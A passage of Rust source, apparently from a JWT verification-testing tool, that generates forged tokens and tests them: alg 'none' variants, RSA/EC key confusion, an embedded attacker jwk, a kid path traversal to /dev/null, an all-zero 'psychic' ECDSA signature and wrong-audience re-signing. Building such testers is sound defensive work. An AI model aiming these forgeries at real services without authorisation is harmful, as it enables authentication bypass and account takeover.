    let secret = p256::SecretKey::random(&mut rand_core::OsRng);
    let point = secret.public_key().to_encoded_point(false);
    let (Some(x), Some(y)) = (point.x(), point.y()) else {
        return Err(ForgeError::Sign(
            "the attacker key has no affine point".into(),
        ));
    };
    let jwk = serde_json::json!({
        "kty": "EC",
        "crv": "P-256",
        "x": URL_SAFE_NO_PAD.encode(x),
        "y": URL_SAFE_NO_PAD.encode(y),
    });
    let header = t
        .fresh_header("ES256")
        .with("kid", Value::from(ATTACKER_KID))
        .with("jwk", jwk);
    let der = secret
        .to_pkcs8_der()
        .map_err(|e| ForgeError::Sign(e.to_string()))?;
    let input = format!("{}.{}", header.segment(), t.payload_b64);
    let sig = sign_segment(
        &input,
        &EncodingKey::from_ec_der(der.as_bytes()),
        Algorithm::ES256,
    )?;
    Ok(forgery(
        Attack::EmbeddedJwk,
        "attacker P-256 key embedded as jwk (ES256)".into(),
        "Signed ES256 with a fresh attacker key whose public half the header carries as jwk: \
         accepting it means the server verifies tokens with keys they bring themselves."
            .into(),
        format!("{input}.{sig}"),
    ))
}

/// The audience [`wrong_audience`] claims: one no real service uses.
pub const OTHER_AUDIENCE: &str = "authlens-other-audience";

/// The token validly re-signed with its own HMAC `secret` (which the caller has checked verifies it) under the
/// original header, its `aud` replaced by [`OTHER_AUDIENCE`]: does the target check aud? None when the token
/// is not HS256/384/512.
pub fn wrong_audience(token: &str, secret: &[u8]) -> Result<Option<Forgery>, ForgeError> {
    let t = Parsed::new(token)?;
    let Some(alg) = t
        .header
        .get("alg")
        .and_then(Value::as_str)
        .and_then(|a| a.parse::<Algorithm>().ok())
        .filter(|a| matches!(a, Algorithm::HS256 | Algorithm::HS384 | Algorithm::HS512))
    else {
        return Ok(None);
    };
    let members: Members = serde_json::from_str(&t.payload_json).unwrap_or_default();
    let payload =
        URL_SAFE_NO_PAD.encode(members.with("aud", Value::from(OTHER_AUDIENCE)).to_json());
    let input = format!("{}.{payload}", t.header_b64);
    let sig = sign_segment(&input, &EncodingKey::from_secret(secret), alg)?;
    Ok(Some(forgery(
        Attack::WrongAudience,
        format!("aud `{OTHER_AUDIENCE}`, re-signed with the known secret"),
        "A validly signed token for another audience: accepting it means aud is not checked, so a token \
         issued to any service sharing the key works here."
            .into(),
        format!("{input}.{sig}"),
    )))
}

/// The attacker's fixed keys (public on purpose: see `attacker/README.md`).
const ATTACKER_RSA: &str = include_str!("attacker/rsa.pem");
const ATTACKER_P384: &str = include_str!("attacker/p384.pem");
const ATTACKER_ED25519: &str = include_str!("attacker/ed25519.pem");
const ATTACKER_HMAC: &[u8] = b"authlens-attacker-hmac-key";

/// The embedded-jwk attack in the token's own algorithm (a verifier that pins alg but takes the header's key):
/// an attacker RSA key for RS*/PS*, P-384 for ES384, Ed25519 for EdDSA, an `oct` key for HS*. None for ES256
/// (the P-256 forgery is already that) and for algorithms jsonwebtoken does not sign.
fn embedded_jwk_same_alg(t: &Parsed<'_>) -> Result<Option<Forgery>, ForgeError> {
    let Some(alg_text) = t.header.get("alg").and_then(Value::as_str) else {
        return Ok(None);
    };
    let Ok(alg) = alg_text.parse::<Algorithm>() else {
        return Ok(None);
    };
    let key_err = |e: jsonwebtoken::errors::Error| ForgeError::Sign(e.to_string());
    let (key, jwk, what) = match alg {
        Algorithm::ES256 => return Ok(None),
        Algorithm::HS256 | Algorithm::HS384 | Algorithm::HS512 => (
            EncodingKey::from_secret(ATTACKER_HMAC),
            serde_json::json!({"kty": "oct", "k": URL_SAFE_NO_PAD.encode(ATTACKER_HMAC)}),
            "attacker HMAC key embedded as an oct jwk",
        ),
        Algorithm::RS256
        | Algorithm::RS384
        | Algorithm::RS512
        | Algorithm::PS256
        | Algorithm::PS384
        | Algorithm::PS512 => {
            let k = EncodingKey::from_rsa_pem(ATTACKER_RSA.as_bytes()).map_err(key_err)?;
            let j = jsonwebtoken::jwk::Jwk::from_encoding_key(&k, alg).map_err(key_err)?;
            (k, public_jwk(&j)?, "attacker RSA key embedded as jwk")
        }
        Algorithm::ES384 => {
            let k = EncodingKey::from_ec_pem(ATTACKER_P384.as_bytes()).map_err(key_err)?;
            let j = jsonwebtoken::jwk::Jwk::from_encoding_key(&k, alg).map_err(key_err)?;
            (k, public_jwk(&j)?, "attacker P-384 key embedded as jwk")
        }
        Algorithm::EdDSA => {
            let k = EncodingKey::from_ed_pem(ATTACKER_ED25519.as_bytes()).map_err(key_err)?;
            let j = jsonwebtoken::jwk::Jwk::from_encoding_key(&k, alg).map_err(key_err)?;
            (k, public_jwk(&j)?, "attacker Ed25519 key embedded as jwk")
        }
        // Algorithm is non-exhaustive: a future one gets no forgery of this kind.
        _ => return Ok(None),
    };
    let header = t
        .fresh_header(alg_text)
        .with("kid", Value::from(ATTACKER_KID))
        .with("jwk", jwk);
    let input = format!("{}.{}", header.segment(), t.payload_b64);
    let sig = sign_segment(&input, &key, alg)?;
    Ok(Some(forgery(
        Attack::EmbeddedJwk,
        format!("{what} ({alg_text})"),
        format!(
            "Signed {alg_text}, the token's own algorithm, with an attacker key whose public half the header \
             carries as jwk: accepting it means the server verifies tokens with keys they bring themselves."
        ),
        format!("{input}.{sig}"),
    )))
}

/// A JWK as JSON with only public members (no kid, alg or use: the header says those).
fn public_jwk(j: &jsonwebtoken::jwk::Jwk) -> Result<Value, ForgeError> {
    let mut v = serde_json::to_value(&j.algorithm).map_err(|e| ForgeError::Sign(e.to_string()))?;
    if let Some(o) = v.as_object_mut() {
        o.retain(|k, _| matches!(k.as_str(), "kty" | "crv" | "x" | "y" | "n" | "e" | "k"));
    }
    Ok(v)
}

fn kid_traversal(t: &Parsed<'_>) -> Result<Forgery, ForgeError> {
    let header = t
        .fresh_header("HS256")
        .with("kid", Value::from(TRAVERSAL_KID));
    let input = format!("{}.{}", header.segment(), t.payload_b64);
    let sig = sign_segment(&input, &EncodingKey::from_secret(b""), Algorithm::HS256)?;
    Ok(forgery(
        Attack::KidTraversal,
        format!("kid {TRAVERSAL_KID}"),
        "The kid set to a path reaching /dev/null and the token signed HS256 with an empty key: \
         accepting it means the server reads its key from a file the kid names."
            .into(),
        format!("{input}.{sig}"),
    ))
}

/// A token for display: the header decoded (readable; a forged header holds nothing secret), the payload
/// and signature masked like any credential ([`crate::redact::mask`]); an empty signature stays visibly
/// empty. `{"alg":"nOnE","typ":"JWT"}.‹eyJzdW… #1a2b3c4d5e6f›.` The output is not JWT-shaped, so the
/// redaction backstop leaves it alone. Never fails: what does not decode is masked whole.
pub fn redacted(token: &str) -> String {
    use crate::redact::mask;
    let mut parts = token.split('.');
    let head = parts.next().unwrap_or_default();
    let header = LENIENT
        .decode(head)
        .ok()
        .filter(|b| b.len() <= MAX_TOKEN_LEN)
        .and_then(|b| serde_json::from_slice::<Members>(&b).ok())
        .map(|m| {
            let json = m.to_json();
            if json.chars().count() > REDACTED_HEADER_CHARS {
                let cut: String = json.chars().take(REDACTED_HEADER_CHARS).collect();
                format!("{cut}…")
            } else {
                json
            }
        });
    let Some(header) = header else {
        return mask(token);
    };
    let mut out = header;
    for segment in parts {
        out.push('.');
        if !segment.is_empty() {
            out.push_str(&mask(segment));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsonwebtoken::DecodingKey;

    // Test keys made once with OpenSSL 3 (genpkey; pkey -pubout; rsa -RSAPublicKey_out), JWKs of the same
    // keys with Python's `cryptography`: independent of the encoders under test.
    const RSA_SPKI_PEM: &str = "-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAusRczng1iD0avh9WLKDm
+yqQHV+Sr2e2E+0Vz1Tv3vmiXemxB7NrkSsu4G4NzPbHu7XTQcw4wgLtg1uZKsPF
Ou7ivqxDGqHGQDXzcXnemTqQNVCyKMQRTraj2dVUyrEx5ndeWcqOCJIwLo9kk7GO
uNHbkvjaNpc95ZKvl0OGdPx6+nHZQZ7qQuzbnpyiRsHmCoh0cUSV7NSm3D6vLza/
kyHeZo288TdtilRLJ7ymu2Gp5fLDgh/DMhGr5NbJdNHZUcIAgkAIzwGUHTismkaU
ZJ3VIsQIH6cbusJQCZYeRGmtDEC4UzH+hUw0iRSPckQbnFAj4oO3AC58LnjhFvJC
IQIDAQAB
-----END PUBLIC KEY-----
";
    const RSA_PKCS1_PEM: &str = "-----BEGIN RSA PUBLIC KEY-----
MIIBCgKCAQEAusRczng1iD0avh9WLKDm+yqQHV+Sr2e2E+0Vz1Tv3vmiXemxB7Nr
kSsu4G4NzPbHu7XTQcw4wgLtg1uZKsPFOu7ivqxDGqHGQDXzcXnemTqQNVCyKMQR
Traj2dVUyrEx5ndeWcqOCJIwLo9kk7GOuNHbkvjaNpc95ZKvl0OGdPx6+nHZQZ7q
QuzbnpyiRsHmCoh0cUSV7NSm3D6vLza/kyHeZo288TdtilRLJ7ymu2Gp5fLDgh/D
MhGr5NbJdNHZUcIAgkAIzwGUHTismkaUZJ3VIsQIH6cbusJQCZYeRGmtDEC4UzH+
hUw0iRSPckQbnFAj4oO3AC58LnjhFvJCIQIDAQAB
-----END RSA PUBLIC KEY-----
";
    const EC_SPKI_PEM: &str = "-----BEGIN PUBLIC KEY-----
MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEP5wtPWVw0xojVszh8aCbf649ge/z
ER25WKTfVMz1QMI6+WG7ZcjOtia8pFEkjD5b4IxTdeswwdl+CCkS9jcJ+g==
-----END PUBLIC KEY-----
";
    const ED_SPKI_PEM: &str = "-----BEGIN PUBLIC KEY-----
MCowBQYDK2VwAyEAfKY+Kw+WYzitJrt3g6frPbGj+ZvPOgCEoE4I/u9D/vg=
-----END PUBLIC KEY-----
";
    const RSA_JWK: &str = r#"{"kty": "RSA", "kid": "rsa-1", "n": "usRczng1iD0avh9WLKDm-yqQHV-Sr2e2E-0Vz1Tv3vmiXemxB7NrkSsu4G4NzPbHu7XTQcw4wgLtg1uZKsPFOu7ivqxDGqHGQDXzcXnemTqQNVCyKMQRTraj2dVUyrEx5ndeWcqOCJIwLo9kk7GOuNHbkvjaNpc95ZKvl0OGdPx6-nHZQZ7qQuzbnpyiRsHmCoh0cUSV7NSm3D6vLza_kyHeZo288TdtilRLJ7ymu2Gp5fLDgh_DMhGr5NbJdNHZUcIAgkAIzwGUHTismkaUZJ3VIsQIH6cbusJQCZYeRGmtDEC4UzH-hUw0iRSPckQbnFAj4oO3AC58LnjhFvJCIQ", "e": "AQAB"}"#;
    const EC_JWK: &str = r#"{"kty": "EC", "kid": "ec-1", "crv": "P-256", "x": "P5wtPWVw0xojVszh8aCbf649ge_zER25WKTfVMz1QMI", "y": "Ovlhu2XIzrYmvKRRJIw-W-CMU3XrMMHZfggpEvY3Cfo"}"#;
    const ED_JWK: &str = r#"{"kty": "OKP", "kid": "ed-1", "crv": "Ed25519", "x": "fKY-Kw-WYzitJrt3g6frPbGj-ZvPOgCEoE4I_u9D_vg"}"#;

    /// The payload as a server might write it: escapes, an exponent, a nested object, odd spacing. Tampering
    /// must keep all of it.
    const PAYLOAD: &str = r#"{"sub":"alice","name":"Ren\u00e9e \/ R","amount":1.0e3,"exp":4102444800, "nested":{"b":1,"a":2}}"#;
    const HEADER: &str = r#"{"typ":"JWT","alg":"RS256","kid":"rsa-1"}"#;

    fn b64(s: impl AsRef<[u8]>) -> String {
        URL_SAFE_NO_PAD.encode(s)
    }

    fn unb64(s: &str) -> Vec<u8> {
        URL_SAFE_NO_PAD.decode(s).expect("base64url")
    }

    fn token_with(header: &str, payload: &str, sig_bytes: usize) -> String {
        let sig: Vec<u8> = (0..sig_bytes).map(|i| (i * 37 + 11) as u8).collect();
        format!("{}.{}.{}", b64(header), b64(payload), b64(sig))
    }

    fn token() -> String {
        token_with(HEADER, PAYLOAD, 256)
    }

    fn parts(token: &str) -> (String, String, String) {
        let p: Vec<&str> = token.split('.').collect();
        assert_eq!(p.len(), 3, "{token}");
        (p[0].into(), p[1].into(), p[2].into())
    }

    fn header_of(token: &str) -> Members {
        serde_json::from_slice(&unb64(&parts(token).0)).expect("header JSON")
    }

    fn only(fs: &[Forgery], attack: Attack) -> Vec<&Forgery> {
        fs.iter().filter(|f| f.attack == attack).collect()
    }

    fn verifies(token: &str, key: &DecodingKey, alg: Algorithm) -> bool {
        let (h, p, s) = parts(token);
        jsonwebtoken::crypto::verify(&s, format!("{h}.{p}").as_bytes(), key, alg).unwrap_or(false)
    }

    fn jwk(json: &str) -> Jwk {
        serde_json::from_str(json).expect("JWK")
    }

    fn pem_body_der(pem: &str) -> Vec<u8> {
        let body: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
        base64::engine::general_purpose::STANDARD
            .decode(body)
            .expect("PEM body")
    }

    #[test]
    fn tampered_payload_keeps_header_signature_and_every_claim_byte() {
        let t = token();
        let (h, _, s) = parts(&t);
        let fs = forgeries(&t, &[]).unwrap();
        let f = only(&fs, Attack::TamperedPayload)[0];
        let (fh, fp, fsig) = parts(&f.token);
        assert_eq!(
            (fh, fsig),
            (h, s),
            "header and signature are the original ones"
        );
        let payload = String::from_utf8(unb64(&fp)).unwrap();
        let expected = format!(
            "{},\"authlens_tampered\":true}}",
            &PAYLOAD[..PAYLOAD.len() - 1]
        );
        assert_eq!(payload, expected);
        let claims: Value = serde_json::from_str(&payload).unwrap();
        assert_eq!(claims["authlens_tampered"], true);
        assert_eq!(claims["name"], "Renée / R");
        assert_eq!(f.check, "jwt.signature-checked");

        // An empty object, trailing whitespace.
        let t = token_with(HEADER, "{ }\n", 32);
        let f = &forgeries(&t, &[]).unwrap()[0];
        let payload = String::from_utf8(unb64(&parts(&f.token).1)).unwrap();
        assert_eq!(payload, "{ \"authlens_tampered\":true}\n");

        // Already there and true: flipped, so the payload still changes; order kept.
        let t = token_with(HEADER, r#"{"z":1,"authlens_tampered":true,"a":2}"#, 32);
        let f = &forgeries(&t, &[]).unwrap()[0];
        let payload = String::from_utf8(unb64(&parts(&f.token).1)).unwrap();
        assert_eq!(payload, r#"{"z":1,"authlens_tampered":false,"a":2}"#);
        let t = token_with(HEADER, r#"{"authlens_tampered":"x"}"#, 32);
        let f = &forgeries(&t, &[]).unwrap()[0];
        let payload = String::from_utf8(unb64(&parts(&f.token).1)).unwrap();
        assert_eq!(payload, r#"{"authlens_tampered":true}"#);
    }

    #[test]
    fn stripped_and_truncated_signatures() {
        let t = token();
        let (h, p, s) = parts(&t);
        let fs = forgeries(&t, &[]).unwrap();
        let stripped = only(&fs, Attack::StrippedSignature);
        assert_eq!(stripped.len(), 1);
        assert_eq!(stripped[0].token, format!("{h}.{p}."));

        let truncated = only(&fs, Attack::TruncatedSignature);
        assert_eq!(truncated.len(), 1);
        let (th, tp, ts) = parts(&truncated[0].token);
        assert_eq!((th, tp), (h, p));
        assert_eq!(s.len(), 342); // RS256: 256 bytes
        assert_eq!(ts.len(), 256);
        assert!(s.starts_with(&ts));
        assert_eq!(
            unb64(&ts),
            unb64(&s)[..192],
            "a prefix of the signature bytes"
        );

        for (sig_bytes, sig_chars, kept) in [
            (32, 43, 32),
            (64, 86, 64),
            (10, 14, 8),
            (1, 2, 1),
            (2, 3, 2),
        ] {
            let t = token_with(HEADER, PAYLOAD, sig_bytes);
            let s = parts(&t).2;
            assert_eq!(s.len(), sig_chars);
            let fs = forgeries(&t, &[]).unwrap();
            let ts = parts(&only(&fs, Attack::TruncatedSignature)[0].token).2;
            assert_eq!(ts.len(), kept, "{sig_chars} chars");
            assert!(s.starts_with(&ts) && ts.len() < s.len() && !ts.is_empty());
            if kept >= 4 {
                // Decodes strictly: rejected for the signature, not for its base64.
                assert_eq!(
                    URL_SAFE_NO_PAD.decode(&ts).unwrap(),
                    unb64(&s)[..kept / 4 * 3]
                );
            }
        }

        // No signature: nothing to strip or cut.
        let t = format!("{}.{}.", b64(HEADER), b64(PAYLOAD));
        let fs = forgeries(&t, &[]).unwrap();
        assert!(only(&fs, Attack::StrippedSignature).is_empty());
        assert!(only(&fs, Attack::TruncatedSignature).is_empty());
        assert_eq!(only(&fs, Attack::TamperedPayload).len(), 1);
    }

    #[test]
    fn alg_none_in_four_spellings_keeps_the_rest_of_the_header() {
        let t = token();
        let p = parts(&t).1;
        let fs = forgeries(&t, &[]).unwrap();
        let none = only(&fs, Attack::AlgNone);
        let algs: Vec<String> = none
            .iter()
            .map(|f| {
                assert!(f.token.ends_with('.'), "empty signature");
                let (_, fp, fs) = parts(&f.token);
                assert_eq!(fp, p);
                assert!(fs.is_empty());
                let h = header_of(&f.token);
                // Original order: typ, alg, kid.
                let keys: Vec<&str> = h.0.iter().map(|(k, _)| k.as_str()).collect();
                assert_eq!(keys, ["typ", "alg", "kid"]);
                assert_eq!(h.get("kid"), Some(&Value::from("rsa-1")));
                assert_eq!(f.check, "jwt.alg-none");
                assert_eq!(
                    f.variant,
                    format!("alg \"{}\"", h.get("alg").unwrap().as_str().unwrap())
                );
                h.get("alg").unwrap().as_str().unwrap().to_string()
            })
            .collect();
        assert_eq!(algs, ["none", "None", "NONE", "nOnE"]);
    }

    #[test]
    fn key_confusion_tokens_verify_with_the_exact_pem_and_der_bytes() {
        let t = token();
        let p = parts(&t).1;
        let rsa = PublicKeyMaterial::from_pem(RSA_SPKI_PEM)
            .unwrap()
            .with_kid("rsa-2");
        let fs = forgeries(&t, std::slice::from_ref(&rsa)).unwrap();
        let kc = only(&fs, Attack::KeyConfusion);
        let der = pem_body_der(RSA_SPKI_PEM);
        let expected: [(&str, &[u8]); 5] = [
            (
                "public key as PEM (SPKI) with final newline",
                RSA_SPKI_PEM.as_bytes(),
            ),
            (
                "public key as PEM (SPKI) without final newline",
                RSA_SPKI_PEM.trim_end().as_bytes(),
            ),
            (
                "public key as PEM (PKCS#1) with final newline",
                RSA_PKCS1_PEM.as_bytes(),
            ),
            (
                "public key as PEM (PKCS#1) without final newline",
                RSA_PKCS1_PEM.trim_end().as_bytes(),
            ),
            ("public key as DER (SPKI)", &der),
        ];
        assert_eq!(kc.len(), expected.len(), "{kc:?}");
        for (f, (variant, secret)) in kc.iter().zip(expected) {
            assert_eq!(f.variant, variant);
            assert_eq!(f.check, "jwt.key-confusion");
            let h = header_of(&f.token);
            assert_eq!(h.get("alg"), Some(&Value::from("HS256")));
            assert_eq!(h.get("kid"), Some(&Value::from("rsa-2")), "the key's kid");
            assert_eq!(h.get("typ"), Some(&Value::from("JWT")));
            assert_eq!(parts(&f.token).1, p);
            assert!(
                verifies(
                    &f.token,
                    &DecodingKey::from_secret(secret),
                    Algorithm::HS256
                ),
                "{variant}"
            );
            // ... and with nothing else: the newline matters.
            let other = if secret.ends_with(b"\n") {
                &secret[..secret.len() - 1]
            } else {
                secret
            };
            if other.len() != secret.len() {
                assert!(!verifies(
                    &f.token,
                    &DecodingKey::from_secret(other),
                    Algorithm::HS256
                ));
            }
        }

        // EC and Ed25519: SPKI forms and DER, no PKCS#1; without a key kid the token's kid stays.
        for pem in [EC_SPKI_PEM, ED_SPKI_PEM] {
            let key = PublicKeyMaterial::from_pem(pem).unwrap();
            let fs = forgeries(&t, &[key]).unwrap();
            let kc = only(&fs, Attack::KeyConfusion);
            let secrets: [&[u8]; 3] = [
                pem.as_bytes(),
                pem.trim_end().as_bytes(),
                &pem_body_der(pem),
            ];
            assert_eq!(kc.len(), 3);
            for (f, secret) in kc.iter().zip(secrets) {
                assert_eq!(header_of(&f.token).get("kid"), Some(&Value::from("rsa-1")));
                assert!(verifies(
                    &f.token,
                    &DecodingKey::from_secret(secret),
                    Algorithm::HS256
                ));
            }
        }

        // No keys: no key-confusion tokens.
        assert!(only(&forgeries(&t, &[]).unwrap(), Attack::KeyConfusion).is_empty());
    }

    #[test]
    fn pem_as_served_with_crlf_is_tried_as_given() {
        let crlf = RSA_SPKI_PEM.replace('\n', "\r\n");
        let key = PublicKeyMaterial::from_pem(&crlf).unwrap();
        let fs = forgeries(&token(), &[key]).unwrap();
        let kc = only(&fs, Attack::KeyConfusion);
        let given = kc.last().unwrap();
        assert_eq!(given.variant, "public key PEM exactly as given");
        assert!(verifies(
            &given.token,
            &DecodingKey::from_secret(crlf.as_bytes()),
            Algorithm::HS256
        ));
        // The canonical text is not repeated as "as given".
        let key = PublicKeyMaterial::from_pem(RSA_SPKI_PEM).unwrap();
        assert!(
            key.hmac_secrets()
                .iter()
                .all(|(n, _)| !n.contains("as given"))
        );
    }

    #[test]
    fn keys_from_pem_pkcs1_and_jwk_agree_with_openssl() {
        let spki = PublicKeyMaterial::from_pem(RSA_SPKI_PEM).unwrap();
        assert_eq!(spki.spki_der, pem_body_der(RSA_SPKI_PEM));
        assert_eq!(
            (spki.family, spki.label.as_str()),
            (KeyFamily::Rsa, "RSA 2048-bit")
        );
        assert_eq!(spki.spki_pem(), RSA_SPKI_PEM);
        assert_eq!(spki.pkcs1_pem().unwrap(), RSA_PKCS1_PEM);
        let pkcs1 = PublicKeyMaterial::from_pem(RSA_PKCS1_PEM).unwrap();
        assert_eq!(pkcs1.spki_der, spki.spki_der);

        let from_jwk = PublicKeyMaterial::from_jwk(&jwk(RSA_JWK)).unwrap();
        assert_eq!(from_jwk.spki_der, spki.spki_der);
        assert_eq!(from_jwk.kid.as_deref(), Some("rsa-1"));
        assert_eq!(from_jwk.given_pem, None);

        let ec = PublicKeyMaterial::from_jwk(&jwk(EC_JWK)).unwrap();
        assert_eq!(ec.spki_der, pem_body_der(EC_SPKI_PEM));
        assert_eq!(ec.spki_pem(), EC_SPKI_PEM);
        assert_eq!(
            (ec.family, ec.curve.as_deref(), ec.label.as_str()),
            (KeyFamily::Ec, Some("P-256"), "EC P-256")
        );
        assert_eq!(ec.pkcs1_der(), None);

        let ed = PublicKeyMaterial::from_jwk(&jwk(ED_JWK)).unwrap();
        assert_eq!(ed.spki_pem(), ED_SPKI_PEM);
        assert_eq!((ed.family, ed.label.as_str()), (KeyFamily::Okp, "Ed25519"));

        // A JWK whose coordinate lost its leading zero still encodes full length.
        let mut short: Value = serde_json::from_str(EC_JWK).unwrap();
        let x = unb64(short["x"].as_str().unwrap());
        let mut padded = vec![0u8];
        padded.extend_from_slice(&x[1..]);
        short["x"] = Value::from(b64(&x[1..]));
        let k = PublicKeyMaterial::from_jwk(&serde_json::from_value(short).unwrap()).unwrap();
        assert_eq!(&k.spki_der[27..59], padded.as_slice());

        // Serialized for the UI: kebab family, base64 DER; round-trips.
        let json = serde_json::to_value(&ec).unwrap();
        assert_eq!(json["family"], "ec");
        assert_eq!(
            json["spki_der"],
            base64::engine::general_purpose::STANDARD.encode(&ec.spki_der)
        );
        assert_eq!(
            serde_json::from_value::<PublicKeyMaterial>(json).unwrap(),
            ec
        );
    }

    #[test]
    fn bad_key_material_gives_clear_errors() {
        let err = |r: Result<PublicKeyMaterial, ForgeError>| match r {
            Err(e @ ForgeError::Key(_)) => e.to_string(),
            other => panic!("expected a key error, got {other:?}"),
        };
        assert!(err(PublicKeyMaterial::from_pem("hello")).contains("not PEM"));
        let private = "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n";
        assert!(err(PublicKeyMaterial::from_pem(private)).contains("a private key"));
        let cert = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n";
        assert!(err(PublicKeyMaterial::from_pem(cert)).contains("certificate"));
        let junk = "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n";
        assert!(err(PublicKeyMaterial::from_pem(junk)).contains("SubjectPublicKeyInfo"));
        let junk = "-----BEGIN RSA PUBLIC KEY-----\nAAAA\n-----END RSA PUBLIC KEY-----\n";
        assert!(err(PublicKeyMaterial::from_pem(junk)).contains("PKCS#1"));
        // X25519 (openssl genpkey -algorithm X25519): key agreement, not signing.
        let x25519 = "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VuAyEAHeW1ZrCQmh3hLB3h4cl7oNBSIYGkDFb3ew2z6eeRDxg=\n-----END PUBLIC KEY-----\n";
        assert!(err(PublicKeyMaterial::from_pem(x25519)).contains("key-agreement"));
        assert!(
            err(PublicKeyMaterial::from_jwk(&jwk(
                r#"{"kty":"oct","k":"c2VjcmV0"}"#
            )))
            .contains("symmetric")
        );
        assert!(
            err(PublicKeyMaterial::from_jwk(&jwk(
                r#"{"kty":"RSA","n":"!!","e":"AQAB"}"#
            )))
            .contains("`n`")
        );
        let long_x = format!(
            r#"{{"kty":"EC","crv":"P-256","x":"{}","y":"{}"}}"#,
            b64([1u8; 33]),
            b64([1u8; 32])
        );
        assert!(err(PublicKeyMaterial::from_jwk(&jwk(&long_x))).contains("too long"));
        // A truncated EC point in an otherwise valid SPKI.
        let mut der = pem_body_der(EC_SPKI_PEM);
        der.truncate(der.len() - 1);
        assert!(PublicKeyMaterial::from_spki_der(&der).is_err());
    }

    #[test]
    fn psychic_signature_is_64_zero_bytes() {
        let t = token();
        let fs = forgeries(&t, &[]).unwrap();
        let f = only(&fs, Attack::Psychic);
        assert_eq!(f.len(), 1);
        let (_, p, s) = parts(&f[0].token);
        assert_eq!(unb64(&s), vec![0u8; 64]);
        assert_eq!(p, parts(&t).1);
        let h = header_of(&f[0].token);
        assert_eq!(h.get("alg"), Some(&Value::from("ES256")));
        assert_eq!(h.get("kid"), Some(&Value::from("rsa-1")));
        assert_eq!(f[0].check, "jwt.psychic");

        // An RS256 token and a known P-256 key: its kid, so the server reaches ECDSA.
        let ec = PublicKeyMaterial::from_jwk(&jwk(EC_JWK)).unwrap();
        let fs = forgeries(&t, std::slice::from_ref(&ec)).unwrap();
        let h = header_of(&only(&fs, Attack::Psychic)[0].token);
        assert_eq!(h.get("kid"), Some(&Value::from("ec-1")));
        // An ES256 token keeps its own kid.
        let es = token_with(r#"{"alg":"ES256","kid":"ec-9"}"#, PAYLOAD, 64);
        let fs = forgeries(&es, &[ec]).unwrap();
        let h = header_of(&only(&fs, Attack::Psychic)[0].token);
        assert_eq!(h.get("kid"), Some(&Value::from("ec-9")));
    }

    #[test]
    fn embedded_jwk_verifies_with_its_own_header_key() {
        let t = token();
        let fs = forgeries(&t, &[]).unwrap();
        let f = only(&fs, Attack::EmbeddedJwk)[0];
        assert_eq!(f.check, "jwt.header-keys");
        let h = header_of(&f.token);
        let keys: Vec<&str> = h.0.iter().map(|(k, _)| k.as_str()).collect();
        assert_eq!(keys, ["alg", "typ", "kid", "jwk"]);
        assert_eq!(h.get("alg"), Some(&Value::from("ES256")));
        assert_eq!(h.get("kid"), Some(&Value::from(ATTACKER_KID)));
        assert_eq!(h.get("typ"), Some(&Value::from("JWT")));
        let header_jwk = h.get("jwk").unwrap().clone();
        assert_eq!(header_jwk["kty"], "EC");
        assert_eq!(header_jwk["crv"], "P-256");
        assert!(header_jwk.get("d").is_none(), "never the private key");
        let key = DecodingKey::from_jwk(&serde_json::from_value(header_jwk).unwrap()).unwrap();
        assert!(verifies(&f.token, &key, Algorithm::ES256));
        assert_eq!(parts(&f.token).1, parts(&t).1, "original claims");
        // Not some other key.
        let other = DecodingKey::from_jwk(&jwk(EC_JWK)).unwrap();
        assert!(!verifies(&f.token, &other, Algorithm::ES256));
        // A fresh key each call.
        let again = forgeries(&t, &[]).unwrap();
        assert_ne!(only(&again, Attack::EmbeddedJwk)[0].token, f.token);
    }

    #[test]
    fn kid_traversal_verifies_with_an_empty_key() {
        let t = token();
        let fs = forgeries(&t, &[]).unwrap();
        let f = only(&fs, Attack::KidTraversal)[0];
        let h = header_of(&f.token);
        assert_eq!(
            h.to_json(),
            r#"{"alg":"HS256","typ":"JWT","kid":"../../../../../../../dev/null"}"#
        );
        assert!(verifies(
            &f.token,
            &DecodingKey::from_secret(b""),
            Algorithm::HS256
        ));
        assert!(!verifies(
            &f.token,
            &DecodingKey::from_secret(b"x"),
            Algorithm::HS256
        ));
        assert_eq!(f.variant, "kid ../../../../../../../dev/null");
        // No typ in the original: none in the forgery.
        let bare = token_with(r#"{"alg":"HS256"}"#, PAYLOAD, 32);
        let fs = forgeries(&bare, &[]).unwrap();
        let h = header_of(&only(&fs, Attack::KidTraversal)[0].token);
        assert_eq!(h.get("typ"), None);
    }

    #[test]
    fn every_forgery_is_distinct_labelled_and_fetches_nothing() {
        let t = token();
        let keys = [
            PublicKeyMaterial::from_jwk(&jwk(RSA_JWK)).unwrap(),
            PublicKeyMaterial::from_jwk(&jwk(EC_JWK)).unwrap(),
            PublicKeyMaterial::from_jwk(&jwk(RSA_JWK)).unwrap(), // duplicate: ignored
        ];
        let fs = forgeries(&t, &keys).unwrap();
        // 3 + 4 + (5 RSA + 3 EC) + 1 + 3 (embedded P-256 jwk, embedded jwk in the token's alg, kid traversal)
        assert_eq!(fs.len(), 19);
        // Every attack but the re-signed audience (it needs the secret: the jwt-attacks scenario builds it).
        for attack in Attack::ALL
            .into_iter()
            .filter(|a| *a != Attack::WrongAudience)
        {
            assert!(fs.iter().any(|f| f.attack == attack), "{attack:?}");
        }
        let mut tokens: Vec<&str> = fs.iter().map(|f| f.token.as_str()).collect();
        tokens.push(&t);
        tokens.sort();
        tokens.dedup();
        assert_eq!(
            tokens.len(),
            fs.len() + 1,
            "all distinct, none the original"
        );
        let mut variants: Vec<(&str, &str)> = fs
            .iter()
            .map(|f| (f.check.as_str(), f.variant.as_str()))
            .collect();
        variants.sort();
        variants.dedup();
        assert_eq!(variants.len(), fs.len(), "variants distinct within a check");
        for f in &fs {
            assert_eq!(f.check, f.attack.check());
            assert!(!f.description.is_empty() && f.description.ends_with('.'));
            let h = header_of(&f.token);
            assert!(h.get("jku").is_none() && h.get("x5u").is_none());
        }
        assert!(
            fs.iter()
                .any(|f| f.variant == "public key as DER (SPKI); EC P-256 key \"ec-1\"")
        );
        let checks: std::collections::BTreeSet<&str> =
            Attack::ALL.iter().map(|a| a.check()).collect();
